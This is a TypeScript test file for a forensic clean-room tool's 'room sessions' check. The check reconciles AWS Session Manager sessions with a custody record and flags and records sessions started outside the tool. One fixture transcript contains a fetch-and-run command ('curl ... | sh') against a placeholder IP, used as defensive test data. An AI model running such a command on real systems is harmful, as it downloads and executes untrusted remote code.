/**
 * `room sessions` (src/workflows/room/sessions.ts) on fakes: the record's sessions (a fake vault
 * holding session events as the room records them) reconciled with Session Manager's list (a fake
 * DescribeSessions, paged, Active and History, filtered by instance). A session Session Manager
 * knows and the record does not is `unrecorded` (not ok); `record` records each ended one as a
 * `room.session` with `found: true`, its owner, times and transcript (hashed from the vault), once;
 * an active one is left for later. End to end on the local AWS: test/cli/room-sessions.test.ts.
 */
import t from 'tap';
import type { DescribeSessionsCommandInput, Session } from '@aws-sdk/client-ssm';
import { roomSessions } from '../../../src/workflows/room/sessions.js';
import { MemoryRecorder } from '../../../src/domain/recorder.js';
import { sessionOfEvent } from '../../../src/custody/room-sessions.js';
import { roomStackName } from '../../../src/domain/case-id.js';
import { awsError, Calls } from '../../fakes/ports.js';
import { BUCKET } from '../../custody/fake-vault.js';
import { FAILED_ID, FORWARD_ID, INSTANCE, SHELL_ID, sessionVault, sha256 } from '../../custody/session-vault.js';

const NEW_INSTANCE = 'i-0aaaabbbbccccdddd';

/** Session Manager with these sessions, two to a page. */
function fakeSsm(sessions: Array<Session & { state: 'Active' | 'History' }>) {
  const calls = new Calls();
  return {
    calls,
    ssm: {
      describeSessions: async (i: DescribeSessionsCommandInput) => {
        calls.add('describeSessions', i);
        const target = i.Filters?.find((f) => f.key === 'Target')?.value;
        const all = sessions.filter((s) => s.state === i.State && (!target || s.Target === target));
        const start = Number(i.NextToken ?? 0);
        const page = all.slice(start, start + 2).map(({ state: _s, ...rest }) => rest);
        return {
          Sessions: page,
          ...(start + 2 < all.length ? { NextToken: String(start + 2) } : {}),
          $metadata: {},
        };
      },
    },
  };
}

/** The room stack of the case, its forensic instance now `instanceId` (the room was rebuilt), or none. */
function fakeCfn(instanceId: string | undefined) {
  return {
    describeStacks: async (i: { StackName?: string }) => {
      if (!instanceId)
        throw awsError(
          'cloudformation',
          'describeStacks',
          'ValidationError',
          `Stack with id ${i.StackName} does not exist`,
        );
      return {
        Stacks: [
          {
            StackName: roomStackName('IR-7'),
            StackId: 'arn:aws:cloudformation:us-east-1:123456789012:stack/cleanroom-IR-7/1',
            StackStatus: 'CREATE_COMPLETE',
            CreationTime: new Date('2026-12-01T09:00:00Z'),
            Outputs: [{ OutputKey: 'InstanceId', OutputValue: instanceId }],
          },
        ],
        $metadata: {},
      } as never;
    },
  };
}

type Listed = Session & { state: 'Active' | 'History' };
const managed = (id: string, over: Partial<Session> = {}, state: 'Active' | 'History' = 'History'): Listed => ({
  SessionId: id,
  Target: INSTANCE,
  Status: 'Terminated',
  StartDate: new Date('2026-12-01T10:10:00Z'),
  EndDate: new Date('2026-12-01T10:52:30Z'),
  Owner: 'arn:aws:sts::123456789012:assumed-role/ForensicAnalyst/carol',
  DocumentName: 'cleanroom-IR-7-shell',
  ...over,
  state,
});

function setup(sessions: Array<Session & { state: 'Active' | 'History' }>, instanceNow: string | null = NEW_INSTANCE) {
  const v = sessionVault();
  const ssm = fakeSsm(sessions);
  const account = { ...v.account, ssm: ssm.ssm, cfn: fakeCfn(instanceNow ?? undefined) } as never;
  return { v, ssm, account };
}

t.test('every session Session Manager knows is in the record: ok, read-only', async (t) => {
  const { ssm, account, v } = setup([managed(SHELL_ID), managed(FORWARD_ID), managed(FAILED_ID, { Status: 'Failed' })]);
  const r = await roomSessions({ account }, { caseId: 'IR-7', bucket: BUCKET });
  t.equal(r.ok, true);
  t.same(r.unrecorded, []);
  t.same(r.instances, [NEW_INSTANCE, INSTANCE], 'the room’s instance now, and every instance a session names');
  t.same(
    r.recorded.map((s) => [s.sessionId, s.action, s.inSessionManager]),
    [
      [SHELL_ID, 'room.session', true],
      [FORWARD_ID, 'room.session', true],
      [FAILED_ID, 'room.session', true],
    ],
    'one entry per session: its end',
  );
  t.same(
    ssm.calls.of<DescribeSessionsCommandInput>('describeSessions').map((c) => [c.State, c.Filters?.[0]?.value]),
    [
      ['Active', NEW_INSTANCE],
      ['History', NEW_INSTANCE],
      ['Active', INSTANCE],
      ['History', INSTANCE],
      ['History', INSTANCE],
    ],
    'both lists, every page, per instance',
  );
  t.same(v.bucket.calls.of('putObject'), [], 'nothing written');
});

t.test(
  'a session started past room shell is flagged with its id, owner and times; --record records it once',
  async (t) => {
    const mallory = 'mallory-0123456789abcdef0';
    const { v, account } = setup([
      managed(SHELL_ID),
      managed(mallory, {
        Owner: 'arn:aws:iam::123456789012:user/mallory',
        StartDate: new Date('2026-12-02T02:00:00Z'),
        EndDate: new Date('2026-12-02T02:03:09Z'),
        DocumentName: 'SSM-SessionManagerRunShell',
      }),
      managed(
        'mallory-0ffff',
        { Status: 'Connected', EndDate: undefined as never, StartDate: new Date('2026-12-02T03:00:00Z') },
        'Active',
      ),
    ]);
    const transcript = Buffer.from('sh-5.2$ curl http://203.0.113.9/x | sh\n');
    const stored = v.bucket.put(`cases/IR-7/sessions/${mallory}.log`, transcript);

    const seen = await roomSessions({ account }, { caseId: 'IR-7', bucket: BUCKET });
    t.equal(seen.ok, false);
    t.match(seen.unrecorded, [
      {
        sessionId: mallory,
        owner: 'arn:aws:iam::123456789012:user/mallory',
        startedAt: '2026-12-02T02:00:00.000Z',
        endedAt: '2026-12-02T02:03:09.000Z',
        status: 'Terminated',
        state: 'History',
      },
      { sessionId: 'mallory-0ffff', status: 'Connected', state: 'Active' },
    ]);
    t.same(seen.recordedNow, [], 'nothing recorded without --record');

    const custody = new MemoryRecorder();
    const r = await roomSessions({ account, custody }, { caseId: 'IR-7', bucket: BUCKET, record: true });
    t.equal(r.ok, false, 'still a finding of this run');
    t.same(
      r.notRecorded.map((n) => n.sessionId),
      ['mallory-0ffff'],
      'an active session waits for its end',
    );
    t.match(r.notRecorded[0]!.why, /still Connected/);
    const [ev] = custody.events();
    t.equal(custody.events().length, 1);
    t.equal(ev!.action, 'room.session');
    t.equal(ev!.idempotencyKey, `room:session-found:${mallory}`);
    const s = sessionOfEvent(ev!.seq, ev)!;
    t.match(s, {
      sessionId: mallory,
      instanceId: INSTANCE,
      actor: 'arn:aws:iam::123456789012:user/mallory',
      kind: 'shell',
      startedAt: '2026-12-02T02:00:00.000Z',
      endedAt: '2026-12-02T02:03:09.000Z',
      status: 'closed',
      found: true,
      transcript: {
        bucket: BUCKET,
        key: `cases/IR-7/sessions/${mallory}.log`,
        versionId: stored.versionId,
        sha256: sha256(transcript),
        bytes: transcript.length,
      },
    });
    t.match(s.reason, /not started with `cleanroom room shell`/);
    t.same(r.recordedNow, [{ sessionId: mallory, seq: 1, transcript: s.transcript }]);
    await roomSessions({ account, custody }, { caseId: 'IR-7', bucket: BUCKET, record: true });
    t.equal(custody.events().length, 1, 'a second run records nothing twice (idempotency key by session id)');
  },
);

t.test(
  'a found session without a transcript in the vault is recorded with none, and says where it looked',
  async (t) => {
    const { account } = setup([managed('eve-0a0a0a0a', { DocumentName: 'AWS-StartPortForwardingSession' })], null);
    const custody = new MemoryRecorder();
    const r = await roomSessions({ account, custody }, { caseId: 'IR-7', bucket: BUCKET, record: true });
    t.same(r.instances, [INSTANCE], 'no room now: the instances the record names');
    const s = sessionOfEvent(1, custody.events()[0])!;
    t.equal(s.transcript, null);
    t.equal(s.kind, 'port-forward');
    t.match(s.reason, `no transcript at s3://${BUCKET}/cases/IR-7/sessions/eve-0a0a0a0a.log`);
  },
);

t.test('--record needs the record opened for writing only when there is something to record', async (t) => {
  const { account } = setup([managed(SHELL_ID)]);
  const r = await roomSessions({ account }, { caseId: 'IR-7', bucket: BUCKET, record: true });
  t.equal(r.ok, true, 'nothing missing: no record opened');
  const { account: a2 } = setup([managed('zed-01')]);
  await t.rejects(roomSessions({ account: a2 }, { caseId: 'IR-7', bucket: BUCKET, record: true }), {
    code: 'NO_CUSTODY',
  });
});

t.test('an unknown case is refused', async (t) => {
  const { account } = setup([]);
  await t.rejects(roomSessions({ account }, { caseId: 'IR-8', bucket: BUCKET }), { code: 'UNKNOWN_CASE' });
});
